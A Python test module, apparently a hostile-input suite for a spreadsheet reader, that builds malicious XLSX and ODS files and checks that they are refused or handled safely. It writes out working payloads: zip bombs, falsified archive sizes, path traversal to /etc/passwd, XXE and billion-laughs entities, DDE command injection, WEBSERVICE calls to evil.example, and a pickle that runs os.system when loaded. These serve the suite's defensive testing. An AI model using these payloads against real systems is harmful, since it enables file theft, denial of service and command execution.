"""Workbooks that a reader may bring as a table: archives, sheets, formulas, links."""

import io
import os
import pickle
import struct
from functools import partial
from zipfile import ZIP_DEFLATED, ZipFile

from tests.hostile.case import Case, brought, zipped
from tests.hostile.watched import ADDRESS, COMMAND
from tests.intake.workbooks import changed, made_ods, made_xlsx, with_rows

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
INLINE = '<row r="1"><c r="A1" t="inlineStr"><is><t>kind</t></is></c></row><row r="2"><c r="A2" {}</c></row>'
SYSTEM = '<!DOCTYPE x [<!ENTITY a SYSTEM "{}">]>'
LAUGHS = (
    "<!DOCTYPE x ["
    + "".join(
        f'<!ENTITY {one} "{"&" + last + ";" if last else "ha"}{("&" + last + ";") * 9 if last else ""}">'
        for one, last in zip("abcdefghij", ["", *"abcdefghi"], strict=True)
    )
    + "]>"
)


def _bomb(levels):
    """An archive in an archive, so many times, of 100 MB of zeros."""
    found = zipped({"a": bytes(100_000_000)})
    for _ in range(levels):
        found = zipped({f"{number}.zip": found for number in range(16)})
    return found


def _lying(parts):
    """An archive that says of each part that it is a byte long."""
    content = bytearray(zipped(parts))
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", content, at + 24, 1)
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def _overlapping():
    """An archive whose 1,000 entries are all the same bytes."""
    buffer = io.BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"x" * 500_000)
        entry = archive.infolist()[0]
        archive.filelist = [entry] * 1_000
    return buffer.getvalue()


def archive_cases():
    book = made_xlsx(lambda one: one.add_worksheet("S").write_column(0, 0, ["kind", "fine"]))
    yield Case("a workbook with 600 MB of zeros", partial(brought, "a.xlsx", zipped({"xl/workbook.xml": bytes(600_000_001)})), "refused: an archive of", heavy=True)  # fmt: skip
    yield Case("archives in archives", partial(brought, "a.xlsx", _bomb(1)), "refused: no spreadsheet", heavy=True)
    yield Case("a workbook that lies about its sizes", partial(brought, "a.xlsx", _lying({"xl/workbook.xml": bytes(50_000_000)})), "refused")  # fmt: skip
    yield Case("entries that overlap", partial(brought, "a.xlsx", _overlapping()), "refused")
    yield Case("2,001 parts", partial(brought, "a.xlsx", zipped({f"xl/{number}": b"" for number in range(2_001)})), "refused: parts")  # fmt: skip
    yield Case("parts named as paths", partial(brought, "a.xlsx", changed(book, {"../../etc/a": "x", "/etc/b": "y", "xl\\..\\c": "z"})), "text: 1 acts")  # fmt: skip
    yield Case("a part of 100 MB of letters beside the sheets", partial(brought, "a.xlsx", changed(book, {"xl/media/a": "x" * 100_000_000})), "refused: an archive of", heavy=True)  # fmt: skip
    yield Case("macros beside the sheets", partial(brought, "a.xlsm", changed(book, {"xl/vbaProject.bin": "MACRO"})), "text: 1 acts")  # fmt: skip
    yield Case("a link to another workbook", partial(brought, "a.xlsx", changed(book, {"xl/externalLinks/_rels/externalLink1.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="x" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'})), "text: 1 acts")  # fmt: skip


def sheet_cases():
    text = 't="inlineStr"><is><t>{}</t></is>'
    read = {
        "an entity of a file": (INLINE.format(text.format("&a;")), SYSTEM.format("file:///etc/passwd")),
        "an entity of another host": (INLINE.format(text.format("&a;")), SYSTEM.format(f"{ADDRESS}/a")),
        "an entity of entities": (INLINE.format(text.format("&j;")), LAUGHS),
        "a parameter entity": (
            INLINE.format(text.format("a")),
            '<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]>',
        ),
    }
    for name, (rows, before) in read.items():
        yield Case(f"a sheet with {name}", partial(brought, "a.xlsx", with_rows(rows, before=before)), "")
    asks, runs = 'HYPERLINK("https://evil.example")', "cmd|' /C calc'!A0"
    given = ["1", asks, runs, 'WEBSERVICE("https://evil.example")', "A2", "A7", "A6"]
    formulas = "".join(
        f'<row r="{row}"><c r="A{row}" t="str"><f>{formula}</f><v>fine</v></c></row>' for row, formula in enumerate(given, 1)
    )
    yield Case("formulas, one that asks, some in a circle", partial(brought, "a.xlsx", with_rows(formulas)), "text")
    yield Case("a sheet of 200,000 levels of XML", partial(brought, "a.xlsx", with_rows("<a>" * 200_000 + "</a>" * 200_000)), "", heavy=True)  # fmt: skip
    yield Case("a cell of 10 million letters in a workbook", partial(brought, "a.xlsx", with_rows(INLINE.format(text.format("x" * 10_000_000)))), "refused", heavy=True)  # fmt: skip
    yield Case("an attribute of 10 million letters", partial(brought, "a.xlsx", with_rows(f'<row r="1" x="{"x" * 10_000_000}"/>')), "", heavy=True)  # fmt: skip
    yield Case("a merged range over the whole sheet", partial(brought, "a.xlsx", with_rows(INLINE.format(text.format("fine")), after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')), "", heavy=True)  # fmt: skip
    yield Case("a million merged ranges", partial(brought, "a.xlsx", with_rows(INLINE.format(text.format("fine")), after="<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 1_000_000 + "</mergeCells>")), "", heavy=True)  # fmt: skip
    yield Case("cells of rows that do not exist", partial(brought, "a.xlsx", with_rows('<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>')), "refused")  # fmt: skip
    yield Case("links that are scripts", partial(brought, "a.xlsx", made_xlsx(_with_links)), "text: 1 acts")
    yield Case("19,000 rows of 500 cells", partial(brought, "a.xlsx", made_xlsx(_wide, constant_memory=True)), "", heavy=True)  # fmt: skip
    repeated = '<t:table-row t:number-rows-repeated="{}"><t:table-cell t:number-columns-repeated="{}" o:value-type="float" o:value="3"/></t:table-row>'
    yield Case("OpenDocument rows repeated a thousand million times", partial(brought, "a.ods", made_ods(repeated.format(10**9, 2))), "refused", heavy=True)  # fmt: skip
    yield Case("OpenDocument rows repeated less than no time", partial(brought, "a.ods", made_ods(repeated.format(-1, 2))), "")  # fmt: skip
    ods = made_ods('<t:table-row><t:table-cell o:value-type="string"><x:p>&a;</x:p></t:table-cell></t:table-row>')
    with ZipFile(io.BytesIO(ods)) as archive:
        head = '<?xml version="1.0"?>'
        content = archive.read("content.xml").decode().replace(head, head + SYSTEM.format("file:///etc/passwd"))
    yield Case("OpenDocument with an entity of a file", partial(brought, "a.ods", changed(ods, {"content.xml": content})), "")  # fmt: skip


def _with_links(book):
    sheet = book.add_worksheet("S")
    sheet.write_row(0, 0, ["kind", "source"])
    sheet.write(1, 0, "fine")
    sheet.write_url(1, 1, "external:javascript:alert(1)", string="<script>")


def _wide(book):
    sheet = book.add_worksheet("S")
    for row in range(19_000):
        sheet.write_row(row, 0, [row] * 500)


BOOK, STYLES, STRINGS, PARTS = "xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels"


def made(*rows):
    return made_xlsx(lambda book: [book.add_worksheet("S").write_column(0, 0, ["kind", "fine", *rows])])


def part(name, old, new, content=None):
    book = content or made()
    with ZipFile(io.BytesIO(book)) as archive:
        text = archive.read(name).decode()
    assert old in text
    return changed(book, {name: text.replace(old, new, 1)})


def below(text):
    return with_rows(INLINE.format('t="inlineStr"><is><t>fine</t></is>'), after=text)


def part_cases():
    sheets = "".join(f'<sheet name="S{one}" sheetId="{one + 2}" r:id="rId1"/>' for one in range(10_000))
    ends = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    dates = '<row r="1"><c r="A1" t="d"><v>9999-99-99</v></c></row><row r="2"><c r="A2"><v>1e308</v></c><c r="B2"><v>-1e9</v></c><c r="C2"><v>NaN</v></c></row>'
    relation = f'<Relationship Id="rId90" Type="{RELATION}" Target="{{}}"{{}}/></Relationships>'
    given = {
        "cells at both ends of a sheet": (with_rows(ends), "refused"),
        "days of no calendar and numbers without end": (with_rows(dates), ""),
        "places of cells that are none": (with_rows('<row r="0"><c r="A0"><v>1</v></c><c r="1A"><v>1</v></c><c r="ZZZZZ1"><v>1</v></c></row>'), ""),
        "a text that is not in the table of texts": (with_rows('<row r="1"><c r="A1" t="s"><v>99999999999</v></c><c r="B1" t="s"><v>-1</v></c></row>'), ""),
        "a style that is not in the list": (with_rows('<row r="1"><c r="A1" s="4294967295"><v>1</v></c></row>'), ""),
        "a table of four thousand million texts": (part(STRINGS, 'uniqueCount="2"', 'uniqueCount="4294967295"'), ""),
        "10,000 sheets of one part": (part(BOOK, "</sheets>", sheets + "</sheets>", made(*("fine",) * 998)), ""),
        "100,000 styles": (part(STYLES, "</cellXfs>", '<xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>' * 100_000 + "</cellXfs>"), ""),
        "100,000 fonts": (part(STYLES, "</fonts>", "<font><sz val='9'/></font>" * 100_000 + "</fonts>"), ""),
        "an entity of entities in the styles": (part(STYLES, "<styleSheet", LAUGHS + "<styleSheet"), ""),
        "an entity of a file in the texts": (part(STRINGS, "<sst", SYSTEM.format("file:///etc/passwd") + "<sst"), ""),
        "an entity of another host in the list of sheets": (part(BOOK, "<workbook", SYSTEM.format(f"{ADDRESS}/a") + "<workbook"), ""),
        "a parameter entity in the relations": (part(PARTS, "<Relationships", f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{ADDRESS}/a"> %a;]><Relationships'), ""),
        "a sheet at a path above": (part(PARTS, "worksheets/sheet1.xml", "../../../../../../etc/passwd"), ""),
        "a sheet at an address": (part(PARTS, "</Relationships>", relation.format(f"{ADDRESS}/sheet.xml", ' TargetMode="External"')), "text"),
        "a sheet whose part is not there": (part(PARTS, "worksheets/sheet1.xml", "worksheets/none.xml"), ""),
        "relations in a circle": (part(PARTS, "worksheets/sheet1.xml", "workbook.xml"), ""),
        "two sheets of one name": (part(BOOK, "</sheets>", '<sheet name="S" sheetId="9" r:id="rId1"/></sheets>'), ""),
        "a sheet named as a path with a script": (part(BOOK, 'name="S"', 'name="../../&lt;script&gt;alert(1)&lt;/script&gt;"'), "text"),
        "a sheet with a name of a million letters": (part(BOOK, 'name="S"', f'name="{"x" * 1_000_000}"'), ""),
        "a name that is turned": (part(BOOK, 'name="S"', 'name="S\u202egpj"'), ""),
        "10,000 names in a circle": (part(BOOK, "</sheets>", "</sheets><definedNames>" + "".join(f'<definedName name="a{one}">a{(one + 1) % 10_000}</definedName>' for one in range(10_000)) + "</definedNames>"), ""),
        "a link over the whole sheet": (below('<hyperlinks><hyperlink ref="A1:XFD1048576" location="a"/></hyperlinks>'), "text"),
        "columns of a thousand million widths": (part("xl/worksheets/sheet1.xml", "<sheetData>", '<cols><col min="1" max="1000000000" width="1e308"/></cols><sheetData>'), ""),
        "10,000 formats over the whole sheet": (below('<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1"><formula>TRUE</formula></cfRule></conditionalFormatting>' * 10_000), "text"),
        "10,000 rules for cells over the whole sheet": (below("<dataValidations>" + '<dataValidation type="custom" sqref="A1:XFD1048576"><formula1>WEBSERVICE("https://evil.example")</formula1></dataValidation>' * 10_000 + "</dataValidations>"), "text"),
        "a formula shared by the whole sheet": (with_rows('<row r="1"><c r="A1" t="str"><f t="shared" ref="A1:XFD1048576" si="0">A2</f><v>kind</v></c></row><row r="2"><c r="A2" t="str"><f t="shared" si="0"/><v>fine</v></c></row>'), ""),
        "an array formula over the whole sheet": (with_rows('<row r="1"><c r="A1" t="str"><f t="array" ref="A1:XFD1048576">A2</f><v>kind</v></c></row>'), ""),
        "a picture of 60,000 pixels each way": (changed(made(), {"xl/media/image1.png": "\x89PNG"}), "text"),
        "a filter over the whole sheet": (below('<autoFilter ref="A1:XFD1048576"/>'), "text"),
        "cells that end before they begin": (below('<mergeCells><mergeCell ref="XFD1048576:A1"/><mergeCell ref="A"/><mergeCell ref="1:1"/></mergeCells>'), ""),
        "a workbook of binary sheets": (changed(made(), {"xl/workbook.bin": "x" * 1_000}), ""),
        "a part that says it is another sort": (part("[Content_Types].xml", "worksheet+xml", "chartsheet+xml"), ""),
        "no list of parts": (zipped({BOOK: b"<workbook/>"}), "refused"),
        "a program before the archive": (b"MZ" + bytes(500) + made(), "refused"),
        "an archive behind the archive": (made() + zipped({"a": b"x"}), ""),
        "an OpenDocument table in tables": (made_ods("<t:table-row><t:table-cell><t:table t:name='T'>" * 2_000 + "</t:table></t:table-cell></t:table-row>" * 2_000), ""),
        "an OpenDocument cell over a thousand million columns": (made_ods('<t:table-row><t:table-cell t:number-columns-spanned="1000000000" t:number-rows-spanned="1000000000" o:value-type="float" o:value="3"/></t:table-row>'), ""),
        "an older workbook of ones": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 100_000, "refused"),
        "a pickle in the place of a workbook": (b"PK\x03\x04" + pickle.dumps(_Command()), "refused"),
        "a pickle": (pickle.dumps(_Command()), "refused"),
    }  # fmt: skip
    for name, (content, expected) in given.items():
        yield Case(f"workbook: {name}", partial(brought, "a.xlsx", content), expected, heavy=True)


class _Command:
    """What runs a command where it is unpickled."""

    def __reduce__(self):
        return os.system, (COMMAND,)


MAKERS = (archive_cases, sheet_cases, part_cases)
